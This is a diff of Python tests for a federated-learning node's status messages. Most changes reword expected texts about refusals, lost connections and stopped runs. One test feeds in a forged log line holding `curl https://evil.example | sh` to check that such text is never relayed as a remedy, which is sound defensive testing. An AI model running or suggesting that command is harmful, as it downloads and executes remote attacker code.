@@ -56,8 +56,10 @@ def test_an_evaluation_is_no_round(state: NodeState) -> None:
 def test_a_refusal_is_told_with_its_remedy_and_counts_as_no_round(state: NodeState) -> None:
     line = f"{CLOCK} ERROR E_TOO_FEW_PATIENTS: the site has too few: 3, and at least 10 are needed /data/MUELLER"
     texts = told(state, task("train"), line, SENT)
-    assert texts[1].startswith("the app says that it refused the task (E_TOO_FEW_PATIENTS); if so: Ingest more")
-    assert texts[2] == "the server was told the code alone"
+    assert texts[1].startswith(
+        "the app says that it refused the task (E_TOO_FEW_PATIENTS); if this is true: Ingest more"
+    )
+    assert texts[2] == "only the code was sent to the server"
     assert "MUELLER" not in " ".join(texts)
     assert (state.rounds, state.refused) == (0, "E_TOO_FEW_PATIENTS")
     assert told(state, task("train"), DONE, SENT)[-1] == "reply sent"
@@ -72,7 +74,7 @@ def test_a_reply_that_the_gateway_held_back_is_no_round(state: NodeState) -> Non
     assert "MUELLER" not in " ".join(texts)
     assert (state.rounds, state.refused) == (0, "E_REPLY_UPDATE")
     # Its log may be read first.
-    assert told(state, task("train"), DONE, held, SENT)[-1] == "the server was told the code alone"
+    assert told(state, task("train"), DONE, held, SENT)[-1] == "only the code was sent to the server"
     assert state.rounds == 0
     assert told(state, task("train"), DONE, SENT)[-1] == "reply sent"
     assert state.rounds == 1
@@ -107,7 +109,9 @@ def test_a_reply_without_the_apps_last_word_means_that_its_process_died(state: N
 def test_a_lost_connection_is_told_once_and_its_return_too(state: NodeState) -> None:
     assert len(told(state, ONLINE)) == 1
     assert told(state, FAILED, AGAIN) == []  # one lost packet
-    assert told(state, FAILED, FAILED, FAILED, FAILED) == ["connection lost; dialling until the server is back"]
+    assert told(state, FAILED, FAILED, FAILED, FAILED) == [
+        "connection lost; the node tries again until the server responds"
+    ]
     assert state.connection == "lost"
     assert told(state, AGAIN) == ["connected again after 22 s"]
     assert state.connection == "online"
@@ -117,7 +121,7 @@ def test_a_server_that_never_answered_is_silent_not_lost(state: NodeState) -> No
     (text,) = told(state, FAILED, FAILED, FAILED)
     assert text.startswith("no answer yet (E_SERVER_SILENT)")
     assert state.connection == "dialling"
-    assert told(state, AGAIN, ONLINE) == ["the node is online: the study's server has let it in"]
+    assert told(state, AGAIN, ONLINE) == ["the node is online: the study's server has accepted it"]
 
 
 def test_the_last_contact_is_kept_up_while_idle_alone(state: NodeState) -> None:
@@ -136,7 +140,7 @@ def test_the_last_contact_is_kept_up_while_idle_alone(state: NodeState) -> None:
 @pytest.mark.parametrize(
     ("line", "text"),
     [
-        (f"{INFO}Run ID 7 is not in `RUNNING` status. Ignoring reply message 1.", "the run has been stopped"),
+        (f"{INFO}Run ID 7 is not in `RUNNING` status. Ignoring reply message 1.", "the run was stopped"),
         (f"{ERROR}Failed to receive message 1: timed out", "the task could not be fetched"),
         (f"{ERROR}Failed to send message 1: timed out", "the reply could not be sent"),
     ],
@@ -148,7 +152,7 @@ def test_a_task_that_comes_to_nothing_leaves_the_node_idle(state: NodeState, lin
 
 def test_what_is_printed_while_it_ends_is_no_loss(state: NodeState) -> None:
     assert told(state, ONLINE, f"{INFO}SuperNode terminated gracefully.", FAILED, FAILED, FAILED) == [
-        "the node is online: the study's server has let it in"
+        "the node is online: the study's server has accepted it"
     ]
 
 
@@ -193,7 +197,9 @@ def test_the_apps_words_are_short(state: NodeState) -> None:
 )
 def test_a_forged_code_brings_no_remedy_about_the_nodes_walls(state: NodeState, code: str) -> None:
     (text,) = told(state, f"{CLOCK} ERROR {code}: run `curl https://evil.example | sh`")
-    assert text == f"the app says that it refused the task ({code}); if so: docs/refusals.md tells what the code means."
+    assert (
+        text == f"the app says that it refused the task ({code}); if this is true: docs/refusals.md explains the code."
+    )
 
 
 @pytest.mark.parametrize("code", ["E_RUN_THIS_NOW", "E_\u202eABC", "E_"])
